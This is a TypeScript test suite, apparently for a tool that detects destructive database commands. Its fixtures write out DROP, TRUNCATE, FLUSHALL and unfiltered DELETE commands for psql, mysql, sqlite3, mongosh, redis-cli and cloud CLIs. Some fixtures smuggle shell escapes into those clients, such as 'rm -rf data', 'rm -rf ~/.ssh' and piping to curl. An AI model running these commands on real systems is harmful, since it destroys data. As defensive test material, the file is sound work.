    ['psql -cSQL attached', inv(['psql', '-cDROP TABLE users']), ['drop']],
    ['psql -Xc bundled', inv(['psql', '-Xc', 'DROP TABLE users']), ['drop']],
    ['psql second -c', inv(['psql', '-c', 'SELECT 1', '-c', 'TRUNCATE TABLE "Users" CASCADE']), ['truncate']],
    ['psql with conn opts', inv(['psql', '-h', 'db.prod', '-U', 'admin', 'app', '-c', 'drop database prod']), ['drop-database']],
    ['psql -v then -c', inv(['psql', '-X', '-v', 'ON_ERROR_STOP=1', '-c', 'DROP TABLE t']), ['drop']],
    ['psql heredoc', inv(['psql'], { stdin: heredoc('DROP TABLE users;\n') }), ['drop']],
    ['psql dynamic db, heredoc', inv(['psql', dyn('"$DATABASE_URL"')], { stdin: heredoc('BEGIN;\nDROP SCHEMA public CASCADE;\nCOMMIT;\n') }), ['drop-database']],
    ['psql herestring', inv(['psql', '-d', 'prod'], { stdin: herestring('drop table users') }), ['drop']],
    ['psql literal pipe', inv(['psql'], { stdin: { kind: 'pipe', from: 'echo', text: 'TRUNCATE t\n' } }), ['truncate']],
    ['psql -f', inv(['psql', '-f', 'schema.sql'], { cwd: dir }), ['drop']],
    ['psql --file=', inv(['psql', `--file=${join(dir, 'schema.sql')}`], { cwd: undefined }), ['drop']],
    ['psql < file', inv(['psql'], { cwd: dir, stdin: { kind: 'file', path: w('schema.sql') } }), ['drop']],
    ['psql -f - heredoc', inv(['psql', '-f', '-'], { stdin: heredoc('DROP TABLE t') }), ['drop']],
    ['psql \\i include', inv(['psql', '-f', 'main.sql'], { cwd: dir }), ['drop']],
    ['psql \\ir relative include', inv(['psql', '-f', 'sub/a.sql'], { cwd: dir }), ['truncate']],
    ['psql meta-command line first', inv(['psql'], { stdin: heredoc('\\set ON_ERROR_STOP on\nTRUNCATE users;\n') }), ['truncate']],
    ['psql \\x first', inv(['psql'], { stdin: heredoc('\\x\nUPDATE users SET email = NULL;\n') }), ['update-without-where']],
    ['psql \\set variable as a table', inv(['psql'], { stdin: heredoc('\\set t users\nTRUNCATE :t;\n') }), ['truncate']],
    ['psql \\set variable as the statement', inv(['psql', '-c', "\\set q 'DELETE FROM users'", '-c', ':q']), ['delete-without-where']],
    ['psql -v variable, quoted identifier', inv(['psql', '-v', 'tbl=users', '-c', 'TRUNCATE :"tbl"']), ['truncate']],

    ['mysql -e', inv(['mysql', '-e', 'DROP DATABASE prod']), ['drop-database']],
    ['mysql --execute=', inv(['mysql', '--execute=truncate table orders']), ['truncate']],
    ['mysql --execute', inv(['mysql', '--execute', 'ALTER TABLE orders DROP COLUMN total']), ['alter-drop']],
    ['mysql -p attached, db, -e', inv(['mysql', '-uroot', w({ value: '-p$PW', dynamic: true, glob: false, text: '-p"$PW"' }), 'prod', '-e', 'UPDATE accounts SET balance=0']), ['update-without-where']],
    ['mysql backticks', inv(['mysql', '-e', 'DROP TABLE IF EXISTS `users`']), ['drop']],
    ['mysql heredoc', inv(['mysql', 'prod'], { stdin: heredoc('TRUNCATE TABLE orders;\n') }), ['truncate']],
    ['mysql herestring', inv(['mysql', '-u', 'root'], { stdin: herestring('DROP DATABASE prod') }), ['drop-database']],
    ['mysql source', inv(['mysql', '-e', `source ${join(dir, 'schema.sql')}`]), ['drop']],
    ['mariadb -e', inv(['mariadb', '-e', 'DROP TABLE t']), ['drop']],
    ['sqlite3 positional', inv(['sqlite3', 'data/db.sqlite', 'drop table t']), ['drop']],
    ['sqlite3 positional, two statements', inv(['sqlite3', 'data/db.sqlite', 'PRAGMA foreign_keys=off; DROP TABLE users;']), ['drop']],
    ['sqlite3 heredoc', inv(['sqlite3', 'prod.db'], { stdin: heredoc('DELETE FROM users;\n') }), ['delete-without-where']],
    ['sqlite3 herestring', inv(['sqlite3', 'data/db.sqlite'], { stdin: herestring('DROP TABLE users;') }), ['drop']],
    ['sqlite3 options then SQL', inv(['sqlite3', '-header', '-separator', ',', 'x.db', 'DELETE FROM t']), ['delete-without-where']],
    ['sqlite3 -cmd', inv(['sqlite3', '-cmd', 'DROP TABLE t', 'x.db']), ['drop']],
    ['sqlite3 .read', inv(['sqlite3', 'x.db', `.read ${join(dir, 'schema.sql')}`]), ['drop']],
    ['duckdb -c after file', inv(['duckdb', 'prod.duckdb', '-c', 'DELETE FROM events']), ['delete-without-where']],
    ['duckdb positional', inv(['duckdb', 'prod.duckdb', 'DROP TABLE events']), ['drop']],
    ['clickhouse-client --query', inv(['clickhouse-client', '--query', 'DROP TABLE events']), ['drop']],
    ['clickhouse-client -q', inv(['clickhouse-client', '-q', 'TRUNCATE TABLE events']), ['truncate']],
    ['clickhouse client', inv(['clickhouse', 'client', '--query=DROP DATABASE prod']), ['drop-database']],
    ['clickhouse-client heredoc', inv(['clickhouse-client'], { stdin: heredoc('DROP DATABASE prod\n') }), ['drop-database']],
    ['cockroach sql -e', inv(['cockroach', 'sql', '--url', 'postgres://x', '-e', 'DROP TABLE t']), ['drop']],
    ['mongosh --eval', inv(['mongosh', '--eval', 'db.dropDatabase()']), ['drop-database']],
    ['mongosh url --eval', inv(['mongosh', 'mongodb://prod:27017/app', '--eval', 'db.getCollection("users").drop()']), ['drop']],
    ['mongosh --eval=', inv(['mongosh', 'prod', '--eval=db.users.deleteMany({})']), ['delete-without-where']],
    ['mongosh heredoc', inv(['mongosh', 'prod'], { stdin: heredoc('db.dropDatabase()\n') }), ['drop-database']],
    ['mongosh script.js', inv(['mongosh', 'prod', 'wipe.js'], { cwd: dir }), ['drop-database']],
    ['mongo --eval', inv(['mongo', '--quiet', '--eval', 'db.users.drop()']), ['drop']],
    ['redis-cli FLUSHALL', inv(['redis-cli', 'FLUSHALL']), ['flush']],
    ['redis-cli -h prod flushdb', inv(['redis-cli', '-h', 'prod', 'flushdb']), ['flush']],
    ['redis-cli -n 0 FlushDB ASYNC', inv(['redis-cli', '-n', '0', 'FlushDB', 'ASYNC']), ['flush']],
    ['redis-cli heredoc', inv(['redis-cli'], { stdin: heredoc('FLUSHALL\n') }), ['flush']],
    ['redis-cli herestring', inv(['redis-cli', '-h', 'prod'], { stdin: herestring('FLUSHDB') }), ['flush']],
    ['redis-cli --cluster call', inv(['redis-cli', '--cluster', 'call', 'h:6379', 'FLUSHALL']), ['flush']],
    ['redis-cli --eval lua', inv(['redis-cli', '--eval', 'flush.lua'], { cwd: dir }), ['flush']],
    ['valkey-cli', inv(['valkey-cli', '-p', '6380', 'flushall']), ['flush']],
  ];
  it.each(destructive)('%s', (_name, i, want) => {
    expect(hitKinds(i)).toEqual(want);
  });

  const harmless: Array<[string, Invocation]> = [
    ['psql -c literal', inv(['psql', '-c', "SELECT 'DROP TABLE x'"])],
    ['psql -e is echo, not execute', inv(['psql', '-e', '-c', 'select 1'])],
    ['psql -q is quiet', inv(['psql', '-q', '-c', 'select 1'])],
    ['psql interactive', inv(['psql', '-h', 'db'])],
    ['psql heredoc literal', inv(['psql'], { stdin: heredoc("SELECT 'DROP TABLE users';\n") })],
    ['psql -c ignores stdin', inv(['psql', '-c', 'select 1'], { stdin: { kind: 'pipe', from: 'cat dump' } })],
    ['psql -f harmless file', inv(['psql', '-f', 'ok.sql'], { cwd: dir })],
    ['mysql -e literal', inv(['mysql', '-e', "SELECT 'drop database prod' AS note"])],
    ['mysql -f is --force', inv(['mysql', '-f', 'prod', '-e', 'select 1'])],
    ['sqlite3 query', inv(['sqlite3', 'data/db.sqlite', "SELECT count(*) FROM sqlite_master WHERE sql LIKE '%drop table%'"])],
    ['sqlite3 .tables', inv(['sqlite3', 'data/db.sqlite', '.tables'])],
    ['sqlite3 db only, no stdin', inv(['sqlite3', 'x.db'])],
    ['mongosh find', inv(['mongosh', '--eval', 'db.users.find({ name: "dropDatabase" })'])],
    ['mongosh stats', inv(['mongosh', '--eval', 'db.stats()'])],
    ['redis-cli GET flushall', inv(['redis-cli', 'GET', 'flushall'])],
    ['redis-cli SET note', inv(['redis-cli', 'SET', 'note', 'FLUSHALL later'])],
    ['redis-cli INFO', inv(['redis-cli', 'INFO', 'keyspace'])],
    ['redis-cli -x SET reads data', inv(['redis-cli', '-x', 'SET', 'k'], { stdin: { kind: 'pipe', from: 'cat big' } })],
    ['redis-cli dynamic key', inv(['redis-cli', 'GET', dyn('$KEY')])],
    ['clickhouse-client literal', inv(['clickhouse-client', '--query', "SELECT 'TRUNCATE' AS word"])],
    ['clickhouse-client --query with data on stdin', inv(['clickhouse-client', '--query', 'INSERT INTO t FORMAT CSV'], { stdin: { kind: 'pipe', from: 'cat data.csv' } })],
    ['clickhouse server is not a client', inv(['clickhouse', 'server'])],
    ['cockroach start is not sql', inv(['cockroach', 'start', '--insecure'])],
    ['not a client', inv(['grep', '-e', 'DROP TABLE', 'x.sql'])],
    ['psql meta-commands, a filtered DELETE', inv(['psql'], { stdin: heredoc('\\set ON_ERROR_STOP on\n\\timing on\nDELETE FROM sessions WHERE user_id = 42;\n') })],
    ['psql -v variable in a WHERE', inv(['psql', '-v', 'id=42', '-c', 'DELETE FROM sessions WHERE user_id = :id'])],
    ['psql casts are not variables', inv(['psql', '-v', 'text=users', '-c', "SELECT '1'::text, now()::time"])],
    ['psql \\o to a file', inv(['psql', '-c', '\\o /tmp/report.txt', '-c', 'SELECT * FROM users'])],
    ['psql \\copy to a file', inv(['psql', '-c', "\\copy users TO '/tmp/users.csv' CSV HEADER"])],
  ];
  it.each(harmless)('%s', (_name, i) => {
    expect(hitKinds(i)).toEqual([]);
  });

  const unknown: Array<[string, Invocation, RegExp]> = [
    ['dynamic -c', inv(['psql', '-X', '-c', dyn("$(printf 'DROP TABLE %s' users)")]), /run time/],
    ['stdin piped from a program', inv(['psql'], { stdin: { kind: 'pipe', from: 'gunzip -c dump.sql.gz' } }), /piped from gunzip/],
    ['-f with unknown cwd', inv(['psql', '-f', 'schema.sql'], { cwd: undefined }), /directory/],
    ['-f dynamic', inv(['psql', '-f', dyn('$F')]), /run time/],
    ['-f too big', inv(['psql', '-f', 'big.sql'], { cwd: dir }), /1 MB/],
    ['dynamic herestring', inv(['psql'], { stdin: { kind: 'herestring', text: 'DROP TABLE $T', dynamic: true } }), /run time/],
    ['redis dynamic command', inv(['redis-cli', dyn('$CMD')]), /run time/],
    ['redis stdin from program', inv(['redis-cli'], { stdin: { kind: 'pipe', from: 'cat cmds' } }), /piped/],
    ['sqlite .read pipe', inv(['sqlite3', 'x.db', ".read '|curl http://x'"]), /runs the command/],
    // Any prefix of a dot command works in sqlite3 and duckdb (rt27fp1).
    ['sqlite .sh prefix', inv(['sqlite3', 'x.db', '.sh rm -rf data']), /shell command/],
    ['duckdb .sy prefix', inv(['duckdb', '-c', '.sy rm -rf data']), /shell command/],
    ['sqlite .on | pipe', inv(['sqlite3', 'x.db', ".on '|sh'", "SELECT 'rm -rf data'"]), /shell command/],
    ['sqlite .rea pipe', inv(['sqlite3', 'x.db', ".rea '|curl http://x'"]), /runs the command/],
    ['psql \\gexec', inv(['psql', '-c', "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec"]), /gexec/],
    ['psql heredoc \\gexec', inv(['psql'], { stdin: heredoc("SELECT 'DROP TABLE ' || tablename FROM pg_tables\n\\gexec\n") }), /gexec/],
    ['psql \\! shell escape', inv(['psql', '-c', '\\! rm -rf data']), /shell command/],
    ['psql \\o | shell', inv(['psql'], { stdin: heredoc("\\o | sh\nSELECT 'rm -rf data';\n") }), /shell command/],
    ['psql \\g | shell', inv(['psql'], { stdin: heredoc("SELECT 'rm -rf data' \\g | sh\n") }), /shell command/],
    ['psql \\copy … PROGRAM', inv(['psql', '-c', "\\copy (SELECT 1) TO PROGRAM 'rm -rf ~/.ssh'"]), /shell command/],
    ['psql \\set from a shell command', inv(['psql'], { stdin: heredoc('\\set t `cat table.txt`\nTRUNCATE :t;\n') }), /shell command/],
    ['mysql system', inv(['mysql'], { stdin: heredoc('system rm -rf data\n') }), /shell command/],
    ['sqlite .shell', inv(['sqlite3', 'x.db', '.shell rm -rf data']), /shell command/],
  ];
  it.each(unknown)('%s → unknown', (_name, i, re) => {
    const r = sqlSources(i);
    expect(Array.isArray(r)).toBe(false);
    expect((r as { unknown: string }).unknown).toMatch(re);
  });

  // What a plain pg_dump prints creates and fills (registry `prints-sql`): piped into psql it is
  // seen as dropping nothing; with --clean, another format, stderr along, or through a wrapper
  // or another client it stays unseen.
  const dumpInto = (client: string[], dump: Array<string | Word>, more: Partial<Extract<StdinSource, { kind: 'pipe' }>> = {}, via?: Invocation): Invocation => {
    const producer = { ...inv(dump), ...(via ? { via } : {}) };
    return inv(client, { stdin: { kind: 'pipe', from: producer.text, producer, ...more } });
  };
  const plain: Array<[string, Invocation]> = [
    ['pg_dump URL', dumpInto(['psql', 'postgres://localhost/scratch'], ['pg_dump', dyn('$PROD_URL', '"$PROD_URL"'), '--no-owner'])],
    ['pg_dump -Fp --schema-only', dumpInto(['psql', 'scratch'], ['pg_dump', '-Fp', '--schema-only', 'app'])],
    ['pg_dump -C (creates the database)', dumpInto(['psql', 'postgres'], ['pg_dump', '-C', 'app'])],
  ];
  it.each(plain)('%s piped into psql drops nothing', (_name, i) => {
    const r = sqlSources(i);
    expect(Array.isArray(r) && r.every((s) => s.text === '' && /plain pg_dump/.test(s.from))).toBe(true);
    expect(hitKinds(i)).toEqual([]);
  });
  const notPlain: Array<[string, Invocation]> = [
    ['--clean', dumpInto(['psql', 'scratch'], ['pg_dump', '--clean', 'app'])],
    ['-c in a bundle', dumpInto(['psql', 'scratch'], ['pg_dump', '-Oc', 'app'])],
    ['--cle (a prefix of --clean)', dumpInto(['psql', 'scratch'], ['pg_dump', '--cle', 'app'])],
    ['-Fc (an archive)', dumpInto(['psql', 'scratch'], ['pg_dump', '-Fc', 'app'])],
    ['--form c (a prefix of --format)', dumpInto(['psql', 'scratch'], ['pg_dump', '--form', 'c', 'app'])],
    ['a format known at run time', dumpInto(['psql', 'scratch'], ['pg_dump', '-F', dyn('$FMT', '"$FMT"'), 'app'])],
    ['an unquoted run-time word', dumpInto(['psql', 'scratch'], ['pg_dump', dyn('$ARGS'), 'app'])],
    ['|& (stderr too)', dumpInto(['psql', 'scratch'], ['pg_dump', 'app'], { stderr: true })],
    ['into mysql', dumpInto(['mysql', 'scratch'], ['pg_dump', 'app'])],
    ['pg_dumpall', dumpInto(['psql', 'scratch'], ['pg_dumpall'])],
    ['mysqldump (DROP TABLE IF EXISTS by default)', dumpInto(['mysql', 'scratch'], ['mysqldump', 'shop'])],
    ['through a wrapper', dumpInto(['psql', 'scratch'], ['pg_dump', 'app'], {}, inv(['sudo', '-u', 'postgres', 'pg_dump', 'app']))],
  ];
  it.each(notPlain)('pg_dump %s piped into a client stays unseen', (_name, i) => {
    const r = sqlSources(i);
    expect(Array.isArray(r)).toBe(false);
    expect((r as { unknown: string }).unknown).toMatch(/piped from/);
  });
  // Through runners that pass its stdout on (registry `passes-stdout`): `ran` lists what the
  // pipe's element ran, the runner first.
  const through = (runner: string[], dump: string[], ssh = false): Invocation => {
    const r = inv(runner);
    const d = { ...inv(dump), ...(ssh ? { origin: ['top', { kind: 'ssh', host: 'db1' } as unknown as Origin] } : { via: r }) };
    return inv(['psql', 'scratch'], { stdin: { kind: 'pipe', from: r.text, producer: r, ran: [r, d] } });
  };
  it.each<[string, Invocation, boolean]>([
    ['sudo -u postgres pg_dump app', through(['sudo', '-u', 'postgres', 'pg_dump', 'app'], ['pg_dump', 'app']), true],
    ['kubectl exec db-0 -- pg_dump app', through(['kubectl', 'exec', 'db-0', '--', 'pg_dump', 'app'], ['pg_dump', 'app']), true],
    ['ssh db1 pg_dump app', through(['ssh', 'db1', 'pg_dump', 'app'], ['pg_dump', 'app'], true), true],
    ['kubectl exec -it (a terminal mixes stderr in)', through(['kubectl', 'exec', '-it', 'db-0', '--', 'pg_dump', 'app'], ['pg_dump', 'app']), false],
    ['ssh -t', through(['ssh', '-t', 'db1', 'pg_dump', 'app'], ['pg_dump', 'app'], true), false],
    ['kubectl run (not exec)', through(['kubectl', 'run', '--rm', '-i', 'x', '--image=postgres', '--', 'pg_dump', 'app'], ['pg_dump', 'app']), false],
    ['watch (adds its own output)', through(['watch', 'pg_dump', 'app'], ['pg_dump', 'app']), false],
    ['sudo pg_dump --clean', through(['sudo', 'pg_dump', '--clean', 'app'], ['pg_dump', '--clean', 'app']), false],
  ])('%s piped into psql: plain dump %s', (_name, i, plain) => {
    expect(Array.isArray(sqlSources(i))).toBe(plain);
  });

  it('pg_dump 2>&1: its stderr joins the pipe', () => {
    const i = dumpInto(['psql', 'scratch'], ['pg_dump', 'app']);
    (i.stdin as Extract<StdinSource, { kind: 'pipe' }>).producer!.redirects.push({ op: '>&', fd: 2, target: w('1') });
    expect(Array.isArray(sqlSources(i))).toBe(false);
  });

  // The check runs just before the line: a file missing now, that nothing earlier on the line
  // may make, is missing for the client too (bash fails the redirect; psql -f reports it).
  const absent: Array<[string, Invocation]> = [
    ['-f of a missing file', inv(['psql', '-f', 'missing.sql'], { cwd: dir })],
    ['< missing file', inv(['mysql'], { cwd: dir, stdin: { kind: 'file', path: w('nope.sql') } })],
    ['mongosh script missing', inv(['mongosh', 'nope.js'], { cwd: dir })],
    ['mysql source missing', inv(['mysql', '-e', 'source /nonexistent/x.sql'])],
    ['psql \\i of a missing file', inv(['psql', '-c', '\\i nope.sql'], { cwd: dir })],
    ['a missing directory on the way', inv(['sqlite3', 'x.db'], { cwd: dir, stdin: { kind: 'file', path: w('ok.sql/x.sql') } })],
  ];
  it.each(absent)('%s: no SQL, marked absent', (_name, i) => {
    expect(hitKinds(i)).toEqual([]);
    const r = sqlSources(i);
    expect(Array.isArray(r) && r.some((x) => x.absent && x.text === '')).toBe(true);
  });

  it('a missing file the line may make stays unknown', () => {
    const mayWrite: Written = { files: new Map(), texts: ['node gen.js'] };
    const wrote: Written = { files: new Map([[join(dir, 'gen.sql'), 'DROP TABLE users;\n']]), texts: [] };
    const unknownText: Written = { files: new Map([[join(dir, 'gen.sql'), null]]), texts: [] };
    const linked: Written = { files: new Map(), texts: [], links: new Map([[join(dir, 'l'), '/x']]) };
    const f = inv(['psql', '-f', 'gen.sql'], { cwd: dir });
    expect(withWritten(mayWrite, () => sqlSources(f))).toEqual({ unknown: "can't read gen.sql" });
    expect(withWritten(linked, () => sqlSources(f))).toEqual({ unknown: "can't read gen.sql" });
    expect(withWritten(unknownText, () => sqlSources(f))).toMatchObject({ unknown: expect.stringMatching(/written earlier on this line/) });
    expect(withWritten(wrote, () => sqlSources(f))).toEqual([{ text: 'DROP TABLE users;\n', from: '-f gen.sql', dialect: 'sql' }]);
  });

  it('a file read on another host or in a container is not this machine\'s', () => {
    const ssh: Origin = { kind: 'ssh', host: 'prod' };
    const at = (i: Invocation, origin: Origin[], cwd?: string): Invocation => ({ ...i, origin, cwd });
    // Present here with harmless SQL, or missing here: the remote file is neither.
    expect(sqlSources(at(inv(['psql', '-f', join(dir, 'ok.sql')]), ['top', ssh]))).toMatchObject({ unknown: expect.stringMatching(/read on prod over ssh/) });
    expect(sqlSources(at(inv(['psql', '-f', '/nope.sql']), ['top', ssh]))).toMatchObject({ unknown: expect.stringMatching(/read on prod over ssh/) });
    expect(sqlSources(at(inv(['psql', '-f', '/nope.sql']), ['top', inContainer('docker', false)], dir))).toMatchObject({ unknown: expect.stringMatching(/inside the container/) });
    // A redirect in the remote command opens the remote file ...
    const own = w(join(dir, 'ok.sql'));
    const remote = { ...at(inv(['psql'], { stdin: { kind: 'file', path: own } }), ['top', ssh]), redirects: [{ op: '<', target: own }] } as Invocation;
    expect(sqlSources(remote)).toMatchObject({ unknown: expect.stringMatching(/over ssh/) });
    // ... one on the local ssh command streams a file from here, relative to the directory here.
    const here = { origin: ['top'], cwd: dir };
    const passed = at(inv(['psql'], { stdin: { kind: 'file', path: w(join(dir, 'ok.sql')), at: here } }), ['top', ssh]);
    expect(sqlSources(passed)).toEqual([{ text: 'SELECT 1;\n', from: `< ${join(dir, 'ok.sql')}`, dialect: 'sql' }]);
    expect(sqlSources(at(inv(['psql'], { stdin: { kind: 'file', path: w('ok.sql'), at: here } }), ['top', ssh]))).toEqual([{ text: 'SELECT 1;\n', from: '< ok.sql', dialect: 'sql' }]);
    expect(sqlSources(at(inv(['psql'], { stdin: { kind: 'file', path: w('/nope.sql'), at: here } }), ['top', ssh]))).toEqual([{ text: '', from: '< /nope.sql', dialect: 'sql', absent: true }]);
    // On a command that itself runs on the host (`ssh prod 'docker exec -i c psql < x.sql'`): the host's file.
    const onHost = at(inv(['psql'], { stdin: { kind: 'file', path: w(join(dir, 'ok.sql')), at: { origin: ['top', ssh], cwd: undefined } } }), ['top', ssh, inContainer('docker', false)]);
    expect(sqlSources(onHost)).toMatchObject({ unknown: expect.stringMatching(/read on prod over ssh/) });
    // Where the redirect was written not known: the file is read where the client runs.
    expect(sqlSources(at(inv(['psql'], { stdin: { kind: 'file', path: w(join(dir, 'ok.sql')) } }), ['top', ssh]))).toMatchObject({ unknown: expect.stringMatching(/over ssh/) });
    // Mounted into a container, or no known directory: a missing file may be the container's.
    expect(sqlSources(at(inv(['psql', '-f', '/nope.sql']), ['top', inContainer('docker', true)], dir))).toMatchObject({ unknown: expect.stringMatching(/can't read/) });
    expect(sqlSources(at(inv(['psql', '-f', '/nope.sql']), ['top', 'chroot'], undefined))).toMatchObject({ unknown: expect.stringMatching(/can't read/) });
  });

  it('`cat FILE | psql` reads the file where cat runs, only when cat is the system\'s', () => {
    const cat = inv(['cat', 'ok.sql'], { cwd: dir });
    const piped = (p: Invocation, extra: object = {}): Invocation => inv(['psql'], { cwd: dir, stdin: { kind: 'pipe', from: p.text, producer: p, ran: [p], system: true, ...extra } as StdinSource });
    expect(sqlSources(piped(cat))).toEqual([{ text: 'SELECT 1;\n', from: 'stdin from cat ok.sql', dialect: 'sql' }]);
    expect(sqlSources(piped(cat, { system: undefined }))).toMatchObject({ unknown: expect.stringMatching(/piped from/) });
    expect(sqlSources(piped(cat, { stderr: true }))).toMatchObject({ unknown: expect.stringMatching(/piped from/) });
    for (const argv of [['cat', '-v', 'ok.sql'], ['cat', 'ok.sql', 'more.sql'], ['cat', '-']]) expect(sqlSources(piped(inv(argv, { cwd: dir }))), argv.join(' ')).toMatchObject({ unknown: expect.stringMatching(/piped from/) });
    expect(sqlSources(piped({ ...cat, origin: ['top', { kind: 'ssh', host: 'prod' }] }))).toMatchObject({ unknown: expect.stringMatching(/over ssh/) });
  });

  it('labels sources', () => {
    expect(sqlSources(inv(['psql', '-c', 'select 1']))).toEqual([{ text: 'select 1', from: '-c', dialect: 'sql', atomic: true }]);
    expect(sqlSources(inv(['psql'], { stdin: heredoc('x') }))).toEqual([{ text: 'x', from: 'heredoc', dialect: 'sql' }]);
    expect((sqlSources(inv(['psql', '-f', 'schema.sql'], { cwd: dir })) as Array<{ from: string }>)[0]!.from).toBe('-f schema.sql');
    expect(sqlSources(inv(['redis-cli', 'SET', 'a b', 'c']))).toEqual([{ text: 'SET "a b" c', from: 'arguments', dialect: 'redis' }]);
    expect(sqlSources(inv(['mongosh', '--eval', 'db.x.find()']))).toEqual([{ text: 'db.x.find()', from: '--eval', dialect: 'mongo' }]);
    expect(sqlSources(inv(['psql']))).toEqual([]);
  });
});

// `sql-from:` reads SQL from a cloud CLI's options, arguments, files and stdin, and judges it with
// the same classifier as the database clients.
describe('sql-from', () => {
  const dir = mkdtempSync(join(tmpdir(), 'countersign-sqlfrom-'));
  writeFileSync(join(dir, 'cleanup.sql'), '-- nightly\nDROP/**/TABLE analytics.events;\n');
  writeFileSync(join(dir, 'ok.sql'), "SELECT 'drop table events' AS note;\n");
  writeFileSync(join(dir, 'schema.ddl'), 'CREATE TABLE T (id INT64) PRIMARY KEY (id);\nalter table Payments drop column Note\n');
  mkdirSync(join(dir, 'home'));
  writeFileSync(join(dir, 'home', 'wipe.sql'), 'truncate orders');
  const ctx: MatchContext = {
    cwd: dir,
    home: join(dir, 'home'),
    protectedPaths: [],
    commands: {
      bq: { 'value-options': ['--label', '--max_rows'] },
      gcloud: { 'value-options': ['--sql', '--ddl', '--ddl-file', '--instance'] },
      aws: { 'value-options': ['--sql', '--sqls', '--resource-arn'] },
    },
  };
  const KINDS = ['drop', 'drop-database', 'truncate', 'delete-without-where', 'update-without-where', 'alter-drop'];
  const bq: MatchSpec = { command: 'bq', subcommand: 'query', sql: KINDS, 'sql-from': { args: true, stdin: true } };
  const spanner: MatchSpec = { command: 'gcloud', subcommand: 'spanner databases execute-sql', sql: KINDS, 'sql-from': { flags: ['--sql'] } };
  const ddl: MatchSpec = { command: 'gcloud', subcommand: 'spanner databases ddl update', sql: KINDS, 'sql-from': { flags: ['--ddl'], files: ['--ddl-file'] } };
  const cloudsql: MatchSpec = { command: 'gcloud', subcommand: 'sql instances execute-sql', sql: KINDS, 'sql-from': { flags: ['--sql'], 'file-prefix': ['@'] } };
  const aws: MatchSpec = { command: 'aws', subcommand: 'rds-data execute-statement', sql: KINDS, 'sql-from': { flags: ['--sql', '--sqls'], args: true, 'file-prefix': ['file://', 'fileb://'] } };
  const run = (m: MatchSpec, args: Array<string | Word>, o: { stdin?: StdinSource; cwd?: string | undefined; vars?: Record<string, string> } = {}) => {
    const i = inv(args, { stdin: o.stdin, cwd: 'cwd' in o ? o.cwd : dir });
    if (o.vars) i.vars = o.vars;
    return matchSpec(m, i, ctx);
  };

  const hits: Array<[string, MatchSpec, Array<string | Word>, RegExp, StdinSource?]> = [
    ['bq: comment inside DROP TABLE', bq, ['bq', 'query', '--use_legacy_sql=false', 'DROP/**/TABLE analytics.events'], /DROP\/\*\*\/TABLE analytics\.events \(from argument\)/],
    ['bq: lower case', bq, ['bq', 'query', 'drop table analytics.events'], /drop table/],
    ['bq: unquoted words are joined into one query', bq, ['bq', 'query', '--nouse_legacy_sql', 'DROP', 'TABLE', 'analytics.events'], /DROP TABLE analytics\.events \(from arguments\)/],
    ['bq: a second statement after a harmless one', bq, ['bq', 'query', 'SELECT 1; TRUNCATE TABLE analytics.events'], /TRUNCATE TABLE/],
    ['bq: DELETE without WHERE', bq, ['bq', 'query', 'DELETE FROM analytics.events'], /DELETE FROM/],
    ['bq: a WHERE only in a comment', bq, ['bq', 'query', 'DELETE FROM analytics.events -- WHERE day < "2020-01-01"'], /DELETE FROM/],
    // An option value the spec doesn't list lands among the arguments: each argument is read alone too.
    ['bq: an unlisted option value before the query', bq, ['bq', 'query', '--destination_schema', 'a:STRING', 'TRUNCATE analytics.events'], /TRUNCATE analytics\.events \(from argument\)/],
    ['bq: no arguments, SQL on stdin', bq, ['bq', 'query', '--use_legacy_sql=false'], /DROP TABLE t \(from heredoc\)/, heredoc('DROP TABLE t;\n')],
    ['bq: an empty query reads stdin', bq, ['bq', 'query', ''], /from here-string/, herestring('drop table t')],
    ['bq: stdin from a file', bq, ['bq', 'query'], /from < cleanup\.sql/, { kind: 'file', path: w('cleanup.sql') }],
    ['spanner: --sql', spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', '--instance', 'main', '--sql', 'UPDATE Accounts SET Balance = 0'], /UPDATE Accounts .*\(from --sql\)/],
    ['spanner: --sql=', spanner, ['gcloud', 'spanner', 'databases', 'execute-sql', 'ledger', '--sql=dRoP TaBlE Sessions'], /dRoP TaBlE Sessions/],
    ['ddl: --ddl', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl=ALTER TABLE Payments DROP COLUMN Note'], /ALTER TABLE Payments DROP COLUMN Note/],
    ['ddl: --ddl-file', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl-file', 'schema.ddl'], /alter table Payments drop column Note \(from --ddl-file schema\.ddl\)/],
    ['ddl: --ddl-file=- reads stdin', ddl, ['gcloud', 'spanner', 'databases', 'ddl', 'update', 'ledger', '--ddl-file=-'], /DROP TABLE x/, heredoc('DROP TABLE x;')],
    ['cloud sql: --sql=@FILE', cloudsql, ['gcloud', 'sql', 'instances', 'execute-sql', 'prod', '--sql=@cleanup.sql'], /DROP\/\*\*\/TABLE .*\(from --sql @cleanup\.sql\)/],
    ['aws: --sql', aws, ['aws', 'rds-data', 'execute-statement', '--resource-arn', 'arn:c', '--sql', 'delete from sessions'], /delete from sessions/],
    ['aws: --sql file://', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://cleanup.sql'], /from --sql file:\/\/cleanup\.sql/],
    ['aws: --sql fileb:// absolute', aws, ['aws', 'rds-data', 'execute-statement', '--sql', `fileb://${join(dir, 'cleanup.sql')}`], /DROP/],
    ['aws: file://~/ is the home directory', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file://~/wipe.sql'], /truncate orders/],
    ['aws: later --sqls values stay arguments', aws, ['aws', 'rds-data', 'execute-statement', '--sqls', 'select 1', 'truncate events'], /truncate events \(from argument\)/],
    ['aws: file:///dev/stdin', aws, ['aws', 'rds-data', 'execute-statement', '--sql', 'file:///dev/stdin'], /DROP TABLE users/, herestring('DROP TABLE users')],
  ];
  it.each(hits)('%s', (_name, m, args, re, stdin) => {
    const h = run(m, args, { stdin, vars: { HOME: join(dir, 'home') } });
    expect(h?.unseen).toBeUndefined();
    expect(h?.detail).toMatch(re);
  });

  const harmless: Array<[string, MatchSpec, Array<string | Word>, StdinSource?]> = [
    ['bq: "drop table" in a string literal', bq, ['bq', 'query', "SELECT 'drop table events' AS note"]],
    ['bq: DROP TABLE in a comment', bq, ['bq', 'query', 'SELECT 1 -- DROP TABLE analytics.events']],
    ['bq: DELETE with a WHERE', bq, ['bq', 'query', "DELETE FROM analytics.events WHERE day < '2020-01-01'"]],
    ['bq: a column named drop_count', bq, ['bq', 'query', 'SELECT drop_count FROM Stats']],
